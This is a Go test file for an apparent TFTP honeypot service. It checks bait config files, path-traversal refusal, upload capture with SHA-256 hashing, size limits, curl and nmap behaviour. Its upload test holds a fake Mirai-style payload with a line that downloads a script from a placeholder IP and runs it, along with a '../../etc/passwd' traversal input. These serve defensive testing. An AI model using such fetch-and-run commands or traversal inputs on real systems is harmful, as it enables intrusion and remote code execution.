package tftp

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/service"
	"decnet/internal/service/servicetest"
	"decnet/internal/testenv"
)

func hostPort(t *testing.T, h *servicetest.Harness) (string, string) {
	t.Helper()
	host, port, err := net.SplitHostPort(h.Addr(Port))
	if err != nil {
		t.Fatal(err)
	}
	return host, port
}

func config(t *testing.T) service.Config {
	return service.Config{Hostname: "edge-sw02", IP: "10.20.30.40", Distro: "debian", ArtifactDir: t.TempDir()}
}

// tftp runs tftp-hpa's client with one command in dir.
func tftp(t *testing.T, h *servicetest.Harness, dir string, mode string, cmd ...string) string {
	t.Helper()
	host, port := hostPort(t, h)
	args := []string{"-m", mode, host, port, "-c"}
	sh := append([]string{"-c", `cd "$0" && exec tftp "$@"`, dir}, append(args, cmd...)...)
	out, _ := servicetest.Run(t, 30*time.Second, nil, "sh", sh...)
	return out
}

func TestGetBaitFiles(t *testing.T) {
	testenv.RequireTool(t, "tftp")
	h := servicetest.Start(t, "tftp", config(t))
	dir := t.TempDir()
	if out := tftp(t, h, dir, "binary", "get", "startup-config", "sc.txt"); out != "" {
		t.Fatalf("tftp get: %s", out)
	}
	got, _ := os.ReadFile(filepath.Join(dir, "sc.txt"))
	if !bytes.Contains(got, []byte("hostname edge-sw02\n")) || !bytes.Contains(got, []byte("ip address 10.20.30.40 255.255.255.0")) || !bytes.Contains(got, []byte("enable secret 5 $1$")) {
		t.Errorf("startup-config:\n%s", got)
	}
	h.Wait(t, 5*time.Second, "rrq", servicetest.Type(event.Request, "opcode=rrq", "filename=startup-config", "outcome=sent", "mode=octet"))

	// netascii: the client turns CR LF back into LF, so the file arrives unchanged.
	if out := tftp(t, h, dir, "netascii", "get", "/pxelinux.cfg/default", "pxe.cfg"); out != "" {
		t.Fatalf("tftp get netascii: %s", out)
	}
	got, _ = os.ReadFile(filepath.Join(dir, "pxe.cfg"))
	if want := pxeDefault(h.RT); string(got) != want {
		t.Errorf("netascii transfer changed the file:\n%q\nwant\n%q", got, want)
	}
	h.Wait(t, 5*time.Second, "rrq netascii", servicetest.Type(event.Request, "bait=pxelinux.cfg/default", "mode=netascii", "outcome=sent"))

	if out := tftp(t, h, dir, "binary", "get", "backup/router.cfg", "x"); !strings.Contains(out, "Error code 1: File not found") {
		t.Errorf("missing file: %q", out)
	}
	if out := tftp(t, h, dir, "binary", "get", "../../etc/passwd", "x"); !strings.Contains(out, "Error code 2: Access violation") {
		t.Errorf("path escape: %q", out)
	}
	h.Wait(t, 5*time.Second, "not found", servicetest.Type(event.Request, "filename=backup/router.cfg", "outcome=not_found"))
}

func TestPutCapturesUpload(t *testing.T) {
	testenv.RequireTool(t, "tftp")
	cfg := config(t)
	h := servicetest.Start(t, "tftp", cfg)
	dir := t.TempDir()
	payload := bytes.Repeat([]byte("#!/bin/sh\nwget http://203.0.113.9/x.sh -O- | sh\r\n\x00\xff"), 300) // > 512 bytes, several blocks
	os.WriteFile(filepath.Join(dir, "mirai.bin"), payload, 0o600)
	if out := tftp(t, h, dir, "binary", "put", "mirai.bin", "upl]oad\x1b.bin"); out != "" {
		t.Fatalf("tftp put: %s", out)
	}
	sum := sha256.Sum256(payload)
	want := hex.EncodeToString(sum[:])
	e := h.Wait(t, 5*time.Second, "upload", servicetest.Type(event.FileUpload, "sha256="+want, "outcome=complete", "stored=true"))
	if e.Fields["filename"] != `upl]oad\x1b.bin` || e.Fields["filename_b64"] == "" || e.AttackerIP != "127.0.0.1" {
		t.Errorf("upload event %+v", e)
	}
	if kept, err := os.ReadFile(filepath.Join(cfg.ArtifactDir, want)); err != nil || !bytes.Equal(kept, payload) {
		t.Errorf("artifact not kept byte for byte: %v", err)
	}

	// netascii upload: the server undoes the client's CR LF conversion.
	text := "line one\nline two\r\nbare\rcr\n"
	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte(text), 0o600)
	if out := tftp(t, h, dir, "netascii", "put", "notes.txt"); out != "" {
		t.Fatalf("tftp put netascii: %s", out)
	}
	sum = sha256.Sum256([]byte(text))
	h.Wait(t, 5*time.Second, "netascii upload", servicetest.Type(event.FileUpload, "sha256="+hex.EncodeToString(sum[:]), "mode=netascii"))
}

func TestUploadBoundsAndRefusal(t *testing.T) {
	testenv.RequireTool(t, "tftp")
	h := servicetest.Start(t, "tftp", config(t), func(rt *service.Runtime) { rt.Limits.MaxArtifact = 2000 })
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "big"), bytes.Repeat([]byte("A"), 5000), 0o600)
	if out := tftp(t, h, dir, "binary", "put", "big"); !strings.Contains(out, "Disk full or allocation exceeded") {
		t.Errorf("oversized upload: %q", out)
	}
	e := h.Wait(t, 5*time.Second, "too large", servicetest.Type(event.FileUpload, "outcome=too_large"))
	if e.Fields["size"] != "2000" {
		t.Errorf("kept %s bytes, want 2000", e.Fields["size"])
	}

	cfg := config(t)
	cfg.Persona = map[string]string{"allow_upload": "false"}
	h2 := servicetest.Start(t, "tftp", cfg)
	if out := tftp(t, h2, dir, "binary", "put", "big"); !strings.Contains(out, "Error code 2: Access violation") {
		t.Errorf("upload with allow_upload=false: %q", out)
	}
}

func TestCurlOptions(t *testing.T) {
	h := servicetest.Start(t, "tftp", config(t))
	host, port := hostPort(t, h)
	url := "tftp://" + host + ":" + port + "/startup-config"
	out, err := servicetest.Run(t, 30*time.Second, nil, "curl", "-sS", "--tftp-blksize", "1024", url)
	if err != nil || out != startupConfig(h.RT) {
		t.Fatalf("curl get with blksize: %v\n%s", err, out)
	}
	h.Wait(t, 5*time.Second, "options", servicetest.Type(event.Request, "outcome=sent", "options=tsize=0,blksize=1024,timeout=6"))
	dir := t.TempDir()
	data := bytes.Repeat([]byte{0, 1, 2, 3, 0xfe}, 1000)
	os.WriteFile(filepath.Join(dir, "fw.img"), data, 0o600)
	if out, err := servicetest.Run(t, 30*time.Second, nil, "curl", "-sS", "--tftp-blksize", "1468", "-T", filepath.Join(dir, "fw.img"), "tftp://"+host+":"+port+"/fw.img"); err != nil {
		t.Fatalf("curl upload: %v\n%s", err, out)
	}
	sum := sha256.Sum256(data)
	h.Wait(t, 5*time.Second, "curl upload", servicetest.Type(event.FileUpload, "sha256="+hex.EncodeToString(sum[:]), "size=5000"))
}

func TestCiscoPersonaFiles(t *testing.T) {
	testenv.RequireTool(t, "tftp")
	cfg := config(t)
	cfg.Distro = "ios"
	h := servicetest.Start(t, "tftp", cfg)
	dir := t.TempDir()
	if out := tftp(t, h, dir, "binary", "get", "network-confg"); out != "" {
		t.Errorf("network-confg on a Cisco persona: %s", out)
	}
	if out := tftp(t, h, dir, "binary", "get", "pxelinux.cfg/default"); !strings.Contains(out, "File not found") {
		t.Errorf("a Cisco persona serves no PXE menu: %s", out)
	}
}

func TestNmapSeesTFTP(t *testing.T) {
	if testing.Short() {
		t.Skip("nmap scan skipped in -short mode")
	}
	testenv.RequireRoot(t) // port 69 on a loopback address of our own: nmap probes TFTP only there
	h := servicetest.Start(t, "tftp", config(t), func(rt *service.Runtime) { rt.Bind[Port] = "127.0.0.69:69" })
	host, _ := hostPort(t, h)
	out, err := servicetest.Run(t, 3*time.Minute, nil, "nmap", "-sU", "-sV", "-Pn", "-n", "-p69", host)
	if err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	if !strings.Contains(out, "69/udp open") || !strings.Contains(out, "tftp") {
		t.Errorf("nmap does not see TFTP:\n%s", out)
	}
}
